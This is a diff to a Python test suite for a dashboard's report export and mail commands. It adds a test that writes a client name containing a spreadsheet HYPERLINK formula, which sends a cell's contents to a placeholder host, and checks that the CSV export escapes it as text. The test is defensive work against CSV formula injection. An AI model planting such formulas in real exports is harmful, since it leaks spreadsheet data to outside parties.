@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import zipfile
 
@@ -10,6 +11,7 @@ import pytest
 from dashboard.api.errors import ApiError
 from dashboard.api.reports import report_response
 from dashboard.cli import main
+from data.models import Client
 
 
 def test_report_response_is_a_download(app, book):
@@ -54,6 +56,21 @@ def test_csd_report_writes_the_file(runner, book, tmp_path):
     assert [p.name for p in folder.iterdir()] == ["report.zip"]  # no temporary file left
 
 
+def test_csd_report_writes_a_formula_in_a_name_as_text(runner, session, book, tmp_path):
+    link = '=HYPERLINK("https://example.invalid/?d="&B3,"Open")'
+    session.get(Client, "c-ash").name = link
+    session.commit()
+    out = tmp_path / "report.zip"
+
+    result = runner.invoke(main, ["report", "--format", "csv", "--out", str(out)])
+
+    assert result.exit_code == 0, result.output
+    with zipfile.ZipFile(out) as archive:
+        rows = csv.DictReader(io.StringIO(archive.read("clients.csv").decode("utf-8")))
+        names = {row["client_id"]: row["name"] for row in rows}
+    assert names["c-ash"] == "'" + link
+
+
 def test_csd_report_into_a_folder_uses_the_report_name(runner, tmp_path):
     folder = tmp_path / "out"
     folder.mkdir()
@@ -91,6 +108,7 @@ def test_csd_send_test_mail_without_smtp_goes_to_the_outbox(runner, migrated_url
 def test_csd_send_test_mail_through_smtp(runner, smtp_server, monkeypatch):
     monkeypatch.setenv("SMTP_HOST", "127.0.0.1")
     monkeypatch.setenv("SMTP_PORT", str(smtp_server.settings.port))
+    monkeypatch.setenv("SMTP_TLS", "off")
 
     result = runner.invoke(main, ["send-test-mail", "ann@example.com"])
 
